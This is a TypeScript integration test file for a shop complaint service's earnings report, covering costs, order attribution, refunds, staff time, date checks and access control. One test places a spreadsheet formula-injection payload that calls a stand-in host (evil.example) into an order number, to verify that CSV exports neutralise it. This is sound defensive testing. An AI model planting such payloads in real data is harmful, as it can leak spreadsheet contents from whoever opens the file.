import { env, SELF } from 'cloudflare:test'
import { randomUUID } from 'node:crypto'
import { expect, it } from 'vitest'
import type { z } from 'zod'
import { depsOf } from '../../adapters/deps.ts'
import * as t from '../../db/schema.ts'
import { recoveryOf } from '../../domain/compensation.ts'
import type { ComplaintId, RemedyId } from '../../domain/ids.ts'
import { decimal, money } from '../../domain/money.ts'
import { earningsShape } from '../../workers/v1/shapes.ts'
import { recover } from '../../workflows/recover.ts'
import {
  acknowledged,
  advance,
  complain,
  eventually,
  type Grievance,
  openShop,
  origin,
  post,
  signIn,
  type TestShop,
} from '../harness/shop.ts'
import { send, visit } from './admin-browser.ts'
import { api, newKey, redeemAt } from './api.ts'

type Report = z.output<typeof earningsShape>

const appNow = async (): Promise<number> =>
  Date.parse((await (await SELF.fetch(`${origin}/local/clock`)).json<{ now: string }>()).now)

async function earnings(shop: TestShop, query = ''): Promise<Report> {
  const { status, body } = await api('GET', `/v1/shops/${shop.id}/earnings${query}`, await signIn(shop.staff.lead))
  expect(status, JSON.stringify(body)).toBe(200)
  return earningsShape.parse(body)
}

interface Agreed {
  readonly complaint: ComplaintId
  readonly email: string
  readonly order: string
  readonly code: string
}

/** A complaint put right by a partial refund of 3 000, with what the customer picked on top, both final now. */
async function agreed(
  shop: TestShop,
  kind: 'gift' | 'bonus',
  about: Grievance & { remedy?: 'partial-refund' | 'credit' } = {},
): Promise<Agreed> {
  const raised = await complain(shop, about)
  const complaint = raised.complaint as ComplaintId
  await acknowledged(complaint)
  const staff = await signIn(shop.staff.admin)
  const { version } = (await api<{ version: number }>('GET', `/v1/complaints/${complaint}`, staff)).body
  const remedies = [{ kind: 'partial-refund', amount: '3000.00' }, 'replacement', { kind: 'credit', amount: '500.00' }]
  const offer = { action: 'offer', version, remedies }
  expect((await api('POST', `/v1/complaints/${complaint}/actions`, staff, offer)).status).toBe(200)
  const deps = await depsOf(env)
  const now = deps.clock.now()
  const found = await env.DB.prepare(
    'select id, round from remedies where complaint = ? and kind = ? order by round desc',
  )
    .bind(complaint, about.remedy ?? 'partial-refund')
    .first<{ id: RemedyId; round: number }>()
  if (!found) throw new Error('it was not offered')
  const at = { shop: shop.id, complaint, by: 'customer', chosenAt: now, finalAt: now } as const
  await deps.db.batch([
    deps.db.insert(t.choices).values({ ...at, round: found.round, remedy: found.id }),
    deps.db.insert(t.compensations).values({ ...at, kind }),
  ])
  await recover(deps, complaint, 'test')
  const code = await env.DB.prepare('select code from codes where complaint = ?1 and purpose = ?2')
    .bind(complaint, `${complaint}-bonus`)
    .first<{ code: string }>()
  return { complaint, email: raised.email, order: raised.order, code: code?.code ?? '' }
}

const orders = async (
  shop: TestShop,
  email: string,
  order: { id: string; total: string; daysLater?: number; codes?: readonly string[] },
) =>
  post(shop, {
    type: 'order.paid',
    data: {
      order: {
        id: order.id,
        total: { amount: order.total, currency: 'MDL' },
        placedAt: new Date((await appNow()) + (order.daysLater ?? 0) * 86_400_000 + 1_000).toISOString(),
        lines: [],
        codes: order.codes ?? [],
      },
      customer: { id: email, email },
    },
  })

it('E1 comes out to the unit: 20 000 went wrong, 3 000 and 300 were spent, 2 000 came off 60 000, 12 700 is left', async () => {
  const shop = await openShop()
  const one = await agreed(shop, 'gift', { tags: ['vip'] })
  await redeemAt(shop, await newKey(shop), one, { order: 'B-2001', total: '60000.00' })
  await orders(shop, one.email, { id: 'B-2001', total: '58000.00' })
  const { totals, byCause, byRemedy, byCompensation, byPeriod, codes } = await earnings(shop)
  const line = {
    ...{ currency: 'MDL', complaints: 1, agreed: 1, cameBack: 1, staffMinutes: 0 },
    cost: { fix: '3000.00', gift: '300.00', codes: '2000.00', staff: '0.00', all: '5300.00' },
    nextOrders: { count: 1, amount: '60000.00', margin: '18000.00' },
    result: '12700.00',
  }
  expect(totals).toMatchObject([
    {
      ...line,
      returnOnRecovery: { state: 'not-measured', gain: null, share: null, customers: null, perCustomer: null },
    },
  ])
  expect(byCause).toMatchObject([{ cause: 'damaged', ...line }])
  expect(byRemedy).toMatchObject([{ remedy: 'partial-refund', offered: 1, ...line }])
  expect(byCompensation).toMatchObject([{ compensation: 'both', ...line }])
  expect(byPeriod).toMatchObject([line])
  expect(codes).toMatchObject([{ currency: 'MDL', issued: 1, used: 1, lapsed: 0, redemptionRate: 1 }])
  const sums = { nextOrder: 6_000_000, bonus: 200_000, fix: 300_000, gift: 30_000 }
  const { gain } = recoveryOf({
    ...{ nextOrder: money(sums.nextOrder, 'MDL'), bonus: money(sums.bonus, 'MDL') },
    ...{ fix: money(sums.fix, 'MDL'), gift: money(sums.gift, 'MDL'), marginShare: 3_000 },
  })
  expect(totals[0]?.result).toBe(decimal(gain))
})

it('an order that only the checkout told of counts too, and once it is in the feed it counts once', async () => {
  const shop = await openShop()
  const one = await agreed(shop, 'bonus')
  const key = await newKey(shop)
  await redeemAt(shop, key, one, { order: '#77', total: '1000.00' })
  expect((await earnings(shop)).totals).toMatchObject([
    { nextOrders: { count: 1, amount: '1000.00', margin: '300.00' }, cost: { codes: '1000.00' } },
  ])
  await post(shop, {
    type: 'order.paid',
    data: {
      order: {
        id: 'id-77',
        name: '#77',
        total: { amount: '0.00', currency: 'MDL' },
        placedAt: new Date(await appNow()).toISOString(),
        lines: [],
      },
      customer: { id: one.email, email: one.email },
    },
  })
  expect((await earnings(shop)).totals).toMatchObject([{ nextOrders: { count: 1, amount: '1000.00' } }])
})

it('each order counts once: for the code that was used in it, else for the last complaint agreed on before it', async () => {
  const shop = await openShop()
  const first = await agreed(shop, 'bonus', { category: 'damaged' })
  await orders(shop, first.email, { id: 'N-1', total: '100.00' })
  await advance('P2D')
  const second = await agreed(shop, 'bonus', { category: 'late', email: first.email })
  await advance('PT1H')
  await orders(shop, first.email, { id: 'N-2', total: '200.00' })
  await orders(shop, first.email, { id: 'N-3', total: '400.00', codes: [first.code] })
  await eventually(() =>
    env.DB.prepare('select 1 from redemptions where shop = ? and order_id = ?').bind(shop.id, 'N-3').first(),
  )
  await orders(shop, `else-${randomUUID()}@example.com`, { id: 'N-4', total: '800.00' })
  const { totals, byCause } = await earnings(shop)
  expect(byCause.map(({ cause, nextOrders }) => [cause, nextOrders.count, nextOrders.amount])).toEqual([
    ['damaged', 2, '500.00'],
    ['late', 1, '200.00'],
  ])
  expect(totals).toMatchObject([{ complaints: 2, cameBack: 2, nextOrders: { count: 3, amount: '700.00' } }])
  expect(second.code).not.toBe('')
})

it('an order that is cancelled is none, one paid back in part counts with the rest, the problem order never', async () => {
  const shop = await openShop()
  const one = await agreed(shop, 'bonus')
  await orders(shop, one.email, { id: one.order, total: '20000.00' })
  await orders(shop, one.email, { id: 'C-1', total: '100.00' })
  await orders(shop, one.email, { id: 'C-2', total: '200.00' })
  const at = new Date(await appNow()).toISOString()
  await post(shop, { type: 'order.cancelled', data: { order: { id: 'C-1' }, at, reason: 'changed' } })
  const amount = { amount: '50.00', currency: 'MDL' }
  await post(shop, { type: 'order.refunded', data: { order: { id: 'C-2' }, at, amount } })
  expect((await earnings(shop)).totals).toMatchObject([{ nextOrders: { count: 1, amount: '150.00', margin: '45.00' } }])
})

it('money given as a code costs what is used of it, not what was promised', async () => {
  const shop = await openShop()
  const one = await agreed(shop, 'bonus', { remedy: 'credit' })
  expect((await earnings(shop)).totals).toMatchObject([{ cost: { fix: '0.00', codes: '0.00', all: '0.00' } }])
  const credit = await env.DB.prepare("select code from codes where complaint = ? and purpose like 'rem_%'")
    .bind(one.complaint)
    .first<{ code: string }>()
  await redeemAt(shop, await newKey(shop), { ...one, code: credit?.code ?? '' }, { total: '60000.00' })
  const report = await earnings(shop)
  expect(report.totals).toMatchObject([{ cost: { fix: '0.00', codes: '500.00', all: '500.00' } }])
  // The bonus of 2 000 is still open; nobody's history says more than the policy's half.
  expect([report.chanceOfUse, report.liability]).toEqual([
    0.5,
    [{ currency: 'MDL', codes: 1, face: '2000.00', expected: '1000.00' }],
  ])
})

it('a code that is only held for a basket costs nothing and brings nothing yet', async () => {
  const shop = await openShop()
  const one = await agreed(shop, 'bonus')
  await redeemAt(shop, await newKey(shop), one, { total: '60000.00' })
  const hold = (until: number | null) =>
    env.DB.prepare('update redemptions set reserved_until_at = ?2 where shop = ?1').bind(shop.id, until).run()
  await hold((await appNow()) + 3_600_000)
  expect((await earnings(shop)).totals).toMatchObject([{ cost: { codes: '0.00' }, nextOrders: { count: 0 } }])
  await hold(null)
  expect((await earnings(shop)).totals).toMatchObject([{ cost: { codes: '2000.00' }, nextOrders: { count: 1 } }])
})

it('who came back is judged only where the time is over', async () => {
  const shop = await openShop()
  const one = await agreed(shop, 'bonus')
  await orders(shop, one.email, { id: 'W-1', total: '100.00', daysLater: 40 })
  await agreed(shop, 'bonus')
  expect((await earnings(shop)).totals[0]?.within.map(({ complaints }) => complaints)).toEqual([0, 0, 0, 0])
  await advance('P95D')
  expect((await earnings(shop)).totals[0]?.within).toEqual([
    { days: 30, complaints: 2, cameBack: 0, orders: 0, amount: '0.00' },
    { days: 90, complaints: 2, cameBack: 1, orders: 1, amount: '100.00' },
    { days: 180, complaints: 0, cameBack: 0, orders: 0, amount: '0.00' },
    { days: 365, complaints: 0, cameBack: 0, orders: 0, amount: '0.00' },
  ])
})

it('staff time is what people say a task took, at the shop’s cost of an hour', async () => {
  const shop = await openShop({ policy: { economics: { staffHourCost: { MDL: 10_000 }, marginShare: 2_500 } } })
  const one = await agreed(shop, 'gift')
  const tasks = await visit(shop.staff.agent, '/admin/tasks')
  const form = (kind: string) => {
    const found = tasks.html.split('<form').find((part) => part.includes(`value="${kind}"`)) ?? ''
    return Object.fromEntries(
      [...found.matchAll(/type="hidden" name="([a-z]+)" value="([^"]*)"/g)].map(([, name = '', value = '']) => [
        name,
        value,
      ]),
    )
  }
  const path = `/admin/complaints/${one.complaint}/actions`
  const refused = await send(shop.staff.agent, path, { ...form('task-done'), minutes: '0' })
  expect(refused.status).toBe(422)
  expect((await send(shop.staff.agent, path, { ...form('task-done'), minutes: '25' })).status).toBe(303)
  const { totals, marginShare, staffHourCost } = await earnings(shop)
  expect(totals).toMatchObject([{ staffMinutes: 25, cost: { staff: '41.67' } }])
  expect([marginShare, staffHourCost]).toEqual([0.25, [{ amount: '100.00', currency: 'MDL' }]])
  const again = await visit(shop.staff.agent, '/admin/tasks')
  expect(again.html).toContain('name="minutes"')
})

it('a complaint that turned out to be part of another counts once', async () => {
  const shop = await openShop()
  const first = await complain(shop)
  const second = await complain(shop, { email: first.email, category: 'service' })
  await Promise.all([acknowledged(first.complaint), acknowledged(second.complaint)])
  expect((await earnings(shop)).totals).toMatchObject([{ complaints: 2 }])
  const staff = await signIn(shop.staff.admin)
  const path = `/v1/complaints/${second.complaint}`
  const { version } = (await api<{ version: number }>('GET', path, staff)).body
  const joined = await api('POST', `${path}/actions`, staff, { action: 'join', version, complaint: first.complaint })
  expect(joined.status, JSON.stringify(joined.body)).toBe(200)
  expect((await earnings(shop)).totals).toMatchObject([{ complaints: 1 }])
})

it('a period holds the complaints received in it; dates the wrong way round are refused', async () => {
  const shop = await openShop()
  await complain(shop)
  expect((await earnings(shop, '?from=2020-01-01&to=2020-12-31')).totals).toEqual([])
  const staff = await signIn(shop.staff.agent)
  const path = `/v1/shops/${shop.id}/earnings`
  expect((await api('GET', `${path}?from=2026-02-01&to=2026-01-01`, staff)).status).toBe(422)
  expect((await api('GET', `${path}?from=soon`, staff)).status).toBe(422)
  const other = await openShop()
  expect((await api('GET', path, await signIn(other.staff.admin))).status).toBe(404)
  expect((await api('GET', path, {})).status).toBe(401)
  expect((await api('GET', path, await newKey(shop))).status).toBe(200)
})

it('each table is a file; an order number that is a formula is words in it; other shops’ files are not there', async () => {
  const shop = await openShop({ locale: 'ru' })
  const evil = '=HYPERLINK("http://evil.example?"&A1)'
  await complain(shop, { order: evil })
  const page = await visit(shop.staff.agent, '/admin/earnings')
  expect([page.status, page.html.includes('<svg class="bars" role="img"')]).toEqual([200, true])
  const links = [...page.html.matchAll(/href="(\/admin\/earnings\/[a-z]+\.csv[^"]*)"/g)].map(([, href = '']) =>
    href.replaceAll('&amp;', '&'),
  )
  expect(links).toHaveLength(5)
  for (const link of links) {
    const file = await visit(shop.staff.agent, link, { 'accept-language': 'ru' })
    expect([file.status, file.headers.get('content-type')], link).toEqual([200, expect.stringContaining('text/csv')])
    expect(file.headers.get('content-disposition'), link).toMatch(/^attachment; filename="[a-z0-9-]+\.csv"$/)
    expect(
      file.html.split('\r\n').filter((row) => row !== ''),
      link,
    ).toHaveLength(2)
    expect(file.html, link).not.toMatch(/(?:^|,)"?[=@]/m)
  }
  const all = await visit(shop.staff.agent, '/admin/earnings/complaints.csv')
  expect(all.html).toContain(`"'=HYPERLINK(""http://evil.example?""&A1)"`)
  expect((await visit(shop.staff.agent, '/admin/earnings/secrets.csv')).status).toBe(404)
  const other = await openShop()
  expect((await visit(other.staff.admin, `/admin/earnings/complaints.csv?shop=${shop.id}`)).status).toBe(404)
  expect((await visit(null, '/admin/earnings/complaints.csv')).status).toBe(401)
  const wrong = await visit(shop.staff.agent, '/admin/earnings?from=2026-12-01&to=2026-01-01', {
    'accept-language': 'en',
  })
  expect(wrong.html).toContain('No period can be made of these dates')
})
